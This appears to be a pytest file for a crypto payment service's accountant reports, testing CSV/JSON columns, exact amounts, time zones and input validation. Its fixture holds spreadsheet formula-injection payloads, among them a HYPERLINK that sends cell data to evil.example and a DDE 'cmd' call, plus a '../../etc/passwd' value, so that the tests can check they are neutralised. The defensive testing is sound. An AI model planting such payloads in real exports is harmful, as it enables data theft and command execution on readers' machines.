"""Reports for the accountant (GET /reports/{kind}, `transient reports`): the documented
columns, exact decimal strings, a file no spreadsheet runs a formula of (read back with
Python's csv module), the range in a time zone, keyset chunks, bad input named. In-process
on the FakeBackend; tests/integration/test_reports_postgres.py runs the rows on PostgreSQL."""

import csv
import datetime
import io
import json
import pathlib

import pytest
from _api import post
from fakes import fake_runtime

from transient.cli import commands
from transient.reports import columns
from transient.reports.formats import safe_cell
from transient.reports.period import period
from transient.reports.rows import fiat_value
from transient.store.models import Payment, Receipt

ROOT = pathlib.Path(__file__).resolve().parents[2]
KEY = {"Authorization": "Bearer config-key"}
HOSTILE = {
    "order_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "account": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)",
}


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    """Three LTC payments: paid in full (priced in EUR), underpaid (hostile text), unpaid."""
    tmp = tmp_path_factory.mktemp("reports")
    client, runtime = fake_runtime(tmp, extra='[api]\nkeys = ["config-key"]\n')
    made = []
    for amount, metadata, account in (
        ("1.5", {"order_id": "A-1"}, "shop"),
        ("2", {"order_id": HOSTILE["order_id"], "description": HOSTILE["description"]}, HOSTILE["account"]),
        ("0.00000001", {"orderId": "-7"}, "\tindent"),
    ):
        resp = post(client, {"currency": "LTC", "amount": amount, "metadata": metadata, "account": account}, KEY)
        assert resp.status_code == 201, resp.text
        made.append(resp.json["payment"])
    # What the rates code stores on a priced payment (the price locked at creation).
    sources = [{"source": "fixed", "pair": "LTC/EUR", "rate": "63.17", "at": "2026-12-07T10:00:00.000Z"}]
    Payment.update(price="94.76", price_currency="EUR", rate="63.17", rate_sources=json.dumps(sources)).where(
        Payment.id == made[0]["id"]
    ).execute()
    node = runtime.backends["LTC"]
    paid = node.pay(made[0]["payment_address"], 150_000_000)
    short = node.pay_many({made[1]["payment_address"]: 12_345_678})
    node.mine(1)
    runtime.syncers["LTC"].run()
    yield client, runtime, made, (paid, short)
    runtime.close()


def _csv(resp):
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"
    assert resp.headers["content-disposition"].startswith('attachment; filename="transient-')
    rows = list(csv.reader(io.StringIO(resp.text, newline="")))
    return rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]


def test_the_payments_report_has_the_documented_columns_and_exact_amounts(shop):
    client, _, made, _ = shop
    header, rows = _csv(client.simulate_get("/reports/payments", headers=KEY))
    assert header == columns.names("payments")
    assert [r["payment_id"] for r in rows] == [p["id"] for p in made]  # oldest first
    full, under, unpaid = rows
    assert {k: full[k] for k in ("schema_version", "status", "amount", "amount_received", "amount_due")} == {
        "schema_version": "1",
        "status": "PAID",
        "amount": "1.5",
        "amount_received": "1.5",
        "amount_due": "0",
    }
    assert (full["order_id"], full["price"], full["price_currency"], full["rate"]) == ("A-1", "94.76", "EUR", "63.17")
    assert json.loads(full["rate_sources"])[0]["source"] == "fixed"
    assert (under["status"], under["amount_received"], under["amount_due"]) == ("UNDERPAID", "0.12345678", "1.87654322")
    assert unpaid["amount"] == "0.00000001" and unpaid["paid_at"] == ""
    assert unpaid["order_id"] == "-7"  # a plain number runs nothing: left as it is
    assert full["created_at"].endswith("Z") and full["paid_at"].endswith("Z")


def test_no_cell_starts_a_formula_and_the_text_is_kept(shop):
    client, _, _, _ = shop
    _, rows = _csv(client.simulate_get("/reports/payments", headers=KEY))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    under = rows[1]
    assert under["order_id"] == "'" + HOSTILE["order_id"]  # shown as text; the apostrophe is not part of it
    assert under["account"] == "'" + HOSTILE["account"]
    assert rows[2]["account"] == "'\tindent"
    assert safe_cell("-1") == "-1" and safe_cell("-1+2") == "'-1+2" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell(None) == "" and safe_cell(True) == "true" and safe_cell("plain") == "plain"


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_receipts_report_values_each_output_at_the_locked_rate(shop):
    client, runtime, made, (paid, short) = shop
    header, rows = _csv(client.simulate_get("/reports/receipts?currency=ltc", headers=KEY))
    assert header == columns.names("receipts")
    by_tx = {r["txid"]: r for r in rows}
    assert set(by_tx) == {paid, short}
    first = by_tx[paid]
    assert (first["payment_id"], first["order_id"], first["amount"], first["state"]) == (
        made[0]["id"],
        "A-1",
        "1.5",
        "confirmed",
    )
    assert (first["credited"], first["confirmations"], first["vout"]) == ("true", "1", "0")
    assert (first["fiat_currency"], first["fiat_value"], first["rate"]) == ("EUR", "94.76", "63.17")  # 1.5 x 63.17
    assert first["confirmed_at"].endswith("Z") and first["first_seen"].endswith("Z")
    assert by_tx[short]["fiat_value"] == "" and by_tx[short]["order_id"].startswith("'=")
    # A reversed output stays in the file, marked.
    Receipt.update(state=Receipt.CONFLICTED).where(Receipt.txid == short).execute()
    try:
        _, rows = _csv(client.simulate_get("/reports/receipts?status=conflicted", headers=KEY))
        assert [(r["txid"], r["credited"], r["confirmations"]) for r in rows] == [(short, "false", "-1")]
    finally:
        Receipt.update(state=Receipt.PENDING).where(Receipt.txid == short).execute()


def test_json_lines_hold_the_same_rows(shop):
    client, _, made, _ = shop
    resp = client.simulate_get("/reports/payments?format=json&status=paid,underpaid", headers=KEY)
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in resp.text.splitlines()]
    assert [line["payment_id"] for line in lines] == [made[0]["id"], made[1]["id"]]
    assert all(list(line) == columns.names("payments") for line in lines)
    assert lines[0]["amount"] == "1.5" and lines[0]["paid_late"] is False and lines[0]["schema_version"] == 1
    assert lines[1]["order_id"] == HOSTILE["order_id"]  # JSON is no spreadsheet: the text as it is
    assert lines[0]["rate_sources"][0]["rate"] == "63.17"


def test_keyset_chunks_give_every_row_once_in_order(shop):
    _, runtime, made, _ = shop
    for chunk in (1, 2, 3, 50):
        runtime.reports.chunk = chunk
        try:
            body = b"".join(runtime.reports.open("payments", {"format": "json"}).body)
        finally:
            runtime.reports.chunk = 2000
        assert [json.loads(line)["payment_id"] for line in body.splitlines()] == [p["id"] for p in made], chunk


def test_the_range_is_whole_days_in_the_given_zone(shop):
    client, _, made, _ = shop
    # Move the payments to known instants: 23:30 UTC on 31 Dec is 1 January in Berlin.
    day = datetime.datetime
    moments = [day(2025, 12, 31, 23, 30), day(2026, 1, 1, 12), day(2026, 1, 2)]
    saved = {p.id: p.created_at for p in Payment.select()}
    try:
        for p, at in zip(made, moments):
            Payment.update(created_at=at).where(Payment.id == p["id"]).execute()
        utc = _csv(client.simulate_get("/reports/payments?from=2026-01-01&to=2026-01-01", headers=KEY))[1]
        assert [r["payment_id"] for r in utc] == [made[1]["id"]]
        berlin = "/reports/payments?from=2026-01-01&to=2026-01-01&tz=Europe/Berlin"
        rows = _csv(client.simulate_get(berlin, headers=KEY))[1]
        assert [r["payment_id"] for r in rows] == [made[0]["id"], made[1]["id"]]
        assert rows[0]["created_at"] == "2026-01-01T00:30:00.000+01:00"  # the zone's own offset
    finally:
        for pid, at in saved.items():
            Payment.update(created_at=at).where(Payment.id == pid).execute()


def test_period_parsing():
    p = period("2026-03-29", "2026-03-29", "Europe/Berlin")  # the day the clocks go forward: 23 hours
    assert (p.start, p.end) == (datetime.datetime(2026, 3, 28, 23), datetime.datetime(2026, 3, 29, 22))
    p = period("2026-01-01T10:00:00+02:00", None, None)
    assert p.start == datetime.datetime(2026, 1, 1, 8) and p.end is None
    assert fiat_value(150_000_000, "63.17") == "94.76" and fiat_value(1, "0.5") == "0.00"
    assert fiat_value(10**18, "0.123456789") == "1234567890.00"  # no float: exact to the cent


@pytest.mark.parametrize(
    "query, field",
    [
        ("format=xml", "format"),
        ("tz=Mars/Olympus_Mons", "tz"),
        ("tz=../../etc/passwd", "tz"),
        ("from=2026-13-01", "from"),
        ("to=yesterday", "to"),
        ("from=2026-02-01&to=2026-01-01", "to"),
        ("status=LOST", "status"),
        ("currency=L%0ATC", "currency"),
        ("currency=%00", "currency"),
    ],
)
def test_bad_parameters_are_422_naming_the_field(shop, query, field):
    client, _, _, _ = shop
    resp = client.simulate_get("/reports/payments?" + query, headers=KEY)
    assert resp.status_code == 422, resp.text
    assert resp.json["error"]["field"] == field


def test_an_unknown_report_is_404_and_the_scope_is_reports_read(shop):
    client, runtime, _, _ = shop
    assert client.simulate_get("/reports/invoices", headers=KEY).status_code == 404
    assert client.simulate_get("/reports/payments").status_code == 401
    _, reader = runtime.key_store.create(["payments:read"])
    _, accountant = runtime.key_store.create(["reports:read"])
    assert client.simulate_get("/reports/payments", headers={"Authorization": "Bearer " + reader}).status_code == 403
    ok = client.simulate_get("/reports/receipts", headers={"Authorization": "Bearer " + accountant})
    assert ok.status_code == 200 and ok.text.startswith("schema_version,payment_id,")
    head = client.simulate_head("/reports/receipts", headers={"Authorization": "Bearer " + accountant})
    assert head.status_code == 200 and head.text == ""


def test_the_reference_page_lists_every_column():
    page = (ROOT / "docs" / "reference" / "reports.md").read_text()
    for kind in columns.KINDS:
        for name, _ in columns.KINDS[kind]:
            assert "`%s`" % name in page, (kind, name)
    assert "schema_version" in page and "version %d" % columns.SCHEMA_VERSION in page
    assert "version %d of the payouts report" % columns.VERSIONS["payouts"] in page


def test_the_cli_writes_the_same_file_whole(tmp_path, capsys):
    config = tmp_path / "config.toml"
    config.write_text(
        '[database]\nurl = "sqlite:///%s"\nauto_migrate = true\n[coins.LTC]\nbackend = "litecoin"\n'
        'rpc_url = "http://127.0.0.1:9/"\nwallet = "w"\n' % (tmp_path / "cli.db")
    )
    out = tmp_path / "payments.csv"
    assert commands.main(["reports", "payments", "--config", str(config), "--output", str(out), "--tz", "UTC"]) == 0
    assert out.read_text().splitlines() == [",".join(columns.names("payments"))]
    assert "payments: wrote" in capsys.readouterr().err
    assert commands.main(["reports", "receipts", "--config", str(config), "--tz", "Nowhere/Land"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "tz" in err[0] and "Traceback" not in err[0]
    missing = tmp_path / "no" / "such" / "dir.csv"
    assert commands.main(["reports", "payments", "--config", str(config), "--output", str(missing)]) == 1
    assert "cannot write" in capsys.readouterr().err and not missing.parent.exists()


def test_the_cli_approval_and_the_fee_fill_the_payouts_reports_columns(tmp_path, capsys):
    """Schema version 2 of the payouts report: who approved (the command line's user here)
    and the payout's share of the fee (recorded by the sender after the send; the share
    itself is tested on a node: tests/regtest/test_payouts_node.py)."""
    import getpass

    from transient.store.payouts import Payout

    config = tmp_path / "config.toml"
    config.write_text(
        '[database]\nurl = "sqlite:///%s"\nauto_migrate = true\n[coins.LTC]\nbackend = "litecoin"\n'
        'rpc_url = "http://127.0.0.1:9/"\nwallet = "w"\n' % (tmp_path / "cli.db")
    )
    assert commands.main(["reports", "payouts", "--config", str(config)]) == 0  # migrates the file
    capsys.readouterr()
    when = datetime.datetime(2026, 12, 7, 10)
    rows = [("po1", "awaiting_approval", None), ("po2", "completed", 1234)]
    for pid, state, fee in rows:
        Payout.create(
            id=pid, currency="LTC", amount=10**7, destination="rltc1qexample", state=state, fee=fee,
            created_at=when, updated_at=when,
        )  # fmt: skip
    assert commands.main(["payouts", "approve", "po1", "--config", str(config), "--json"]) == 0
    approved = json.loads(capsys.readouterr().out)
    assert approved["approved_by"] == "cli:%s" % getpass.getuser() and approved["state"] == "approved"
    out = tmp_path / "payouts.csv"
    assert commands.main(["reports", "payouts", "--config", str(config), "--output", str(out)]) == 0
    got = list(csv.DictReader(io.StringIO(out.read_text())))
    assert list(got[0])[-2:] == ["fee", "approved_by"]
    assert [(r["payout_id"], r["schema_version"], r["fee"], r["approved_by"]) for r in got] == [
        ("po1", "2", "", "cli:%s" % getpass.getuser()),
        ("po2", "2", "0.00001234", ""),
    ]
